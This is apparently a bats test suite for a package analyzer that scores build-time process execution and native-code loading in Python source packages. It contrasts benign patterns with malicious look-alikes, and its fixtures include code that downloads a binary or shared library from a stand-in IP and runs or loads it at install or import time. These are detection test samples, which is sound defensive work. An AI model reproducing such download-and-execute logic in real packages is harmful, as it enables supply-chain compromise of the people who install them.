#!/usr/bin/env bats
# 48e-margin.bats: build logic that sat just below the high threshold on real sdists (issue 11):
# a def reading its module's build-tool setting through globals(), one import statement naming
# a native-code module twice — each with the look-alike that must still weigh in full.

load helpers/common
load helpers/parse
load helpers/analyze
bats_require_minimum_version 1.5.0

setup() { cd "$BATS_TEST_TMPDIR"; mkdir -p pkg/pkg; }

# hits DIR DETECTION: "line context score" of that detection's hits for the directory.
hits() {
	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r --arg d "$2" 'select(.type == "hit" and .detection == $d) | "\(.line) \(.context) \(.score)"'
}

# A module that finds its library with the build tool the user configures (shapely's
# _buildcfg.py): the global is the environment's choice or the tool's name, None once the
# tool was not found; the def reads it with globals().get() and runs it at import time.
write_geos_module() {
	cat > pkg/pkg/_buildcfg.py <<PY
import os, subprocess
if 'GEOS_CONFIG' in os.environ:
    geos_config = os.environ['GEOS_CONFIG']
else:
    geos_config = $1
def get_geos_config(option):
    geos_config = globals().get('geos_config')
    if not geos_config:
        raise OSError('geos-config is not set')
    return subprocess.Popen([geos_config, option], stdout=subprocess.PIPE).communicate()
try:
    clibs = get_geos_config('--clibs')
except OSError:
    geos_config = None
PY
}

@test "a def reading the module's build tool through globals().get() runs that build tool" {
	write_geos_module "'geos-config'"
	run hits pkg ProcessExecution
	assert_output "10 import 5"
	run --separate-stderr aura explain pkg
	assert_output --partial "the build tool \$GEOS_CONFIG (reached through get_geos_config())"
}

@test "look-alike: the global names a program shipped in the package or fetched: full score" {
	write_geos_module "os.path.join(os.path.dirname(__file__), 'bin', 'geos-config')"
	run hits pkg ProcessExecution
	assert_output "10 import 40"
	write_geos_module "'curl'"
	run hits pkg ProcessExecution
	assert_output "10 import 40"
}

@test "look-alike: the module's global changed where the bindings do not show: full score" {
	write_geos_module "'geos-config'"
	# another def makes the name the module's and sets it to a downloaded file
	cat >> pkg/pkg/_buildcfg.py <<'PY'
def fetch():
    global geos_config
    import urllib.request
    geos_config = urllib.request.urlretrieve('https://203.0.113.9/g')[0]
PY
	run hits pkg ProcessExecution
	assert_output "10 import 40"
	write_geos_module "'geos-config'"
	printf "globals()['geos_config'] = '/tmp/.x/run'\n" >> pkg/pkg/_buildcfg.py
	run hits pkg ProcessExecution
	assert_output "10 import 40"
	write_geos_module "'geos-config'"
	printf "g = vars()\ng.update(geos_config='/tmp/.x/run')\n" >> pkg/pkg/_buildcfg.py
	run hits pkg ProcessExecution
	assert_output "10 import 40"
	# stores the bindings do not hold: unpacking, augmented assignment, an import as the name
	for change in "x, geos_config = 1, '/tmp/.x/run'" "geos_config += '.sh'" "from evil import run as geos_config"; do
		write_geos_module "'geos-config'"
		printf '%s\n' "$change" >> pkg/pkg/_buildcfg.py
		run hits pkg ProcessExecution
		assert_output "10 import 40" || fail "after: $change"
	done
}

@test "look-alike: the def that reads the global declares it its own and sets it: full score" {
	cat > pkg/pkg/tool.py <<'PY'
import subprocess
tool = 'pkg-config'
def run():
    global tool
    tool = './payload'
    tool = globals().get('tool')
    return subprocess.run([tool, '--libs'])
run()
PY
	run hits pkg ProcessExecution
	assert_output "7 import 40"
}

@test "one import statement naming ctypes and ctypes.util is one native-code import" {
	printf 'import ctypes, ctypes.util\nimport ctypes.util, ctypes\n' > pkg/setup.py
	run hits pkg NativeCodeImport
	assert_output "$(printf '1 install 10\n2 install 10')"
}

@test "look-alike: modules of other packages each count, and what ctypes loads weighs in full" {
	cat > pkg/setup.py <<'PY'
import ctypes, ctypes.util, cffi
import os, urllib.request
p = urllib.request.urlretrieve('https://203.0.113.9/x.so', os.path.join(os.path.dirname(__file__), 'x.so'))[0]
ctypes.CDLL(p)
PY
	run hits pkg NativeCodeImport
	assert_output "$(printf '1 install 10\n1 install 10')"
	run hits pkg NativeCode
	assert_output "4 install 50"
}

@test "a ctypes load of a library os.environ[\"X\"] names is the user's system library" {
	cat > pkg/pkg/_geos.py <<'PY'
import ctypes, os
lgeos = ctypes.CDLL(os.environ['GEOS_LIBRARY_PATH'])
crypto = ctypes.CDLL(os.path.join(os.environ['OPENSSL_DIR'], 'libcrypto.so'))
gss = ctypes.CDLL(os.environ.get('GSSAPI_MAIN_LIB', None))
PY
	run hits pkg NativeCode
	assert_output "$(printf '2 import 2\n3 import 2\n4 import 2')"
}

@test "look-alike: an environment variable the file sets itself, or a default it ships: full score" {
	cat > pkg/pkg/_geos.py <<'PY'
import ctypes, os
os.environ['GEOS_LIBRARY_PATH'] = os.path.join(os.path.dirname(__file__), 'x.so')
lgeos = ctypes.CDLL(os.environ['GEOS_LIBRARY_PATH'])
gss = ctypes.CDLL(os.environ.get('GSSAPI_MAIN_LIB', os.path.join(os.path.dirname(__file__), 'x.so')))
other = ctypes.CDLL(os.getenv('MAIN_LIB', './payload.so'))
cfg = ctypes.CDLL(config['lib'])
PY
	run hits pkg NativeCode
	assert_output "$(printf '3 import 10\n4 import 10\n5 import 10\n6 import 10')"
}
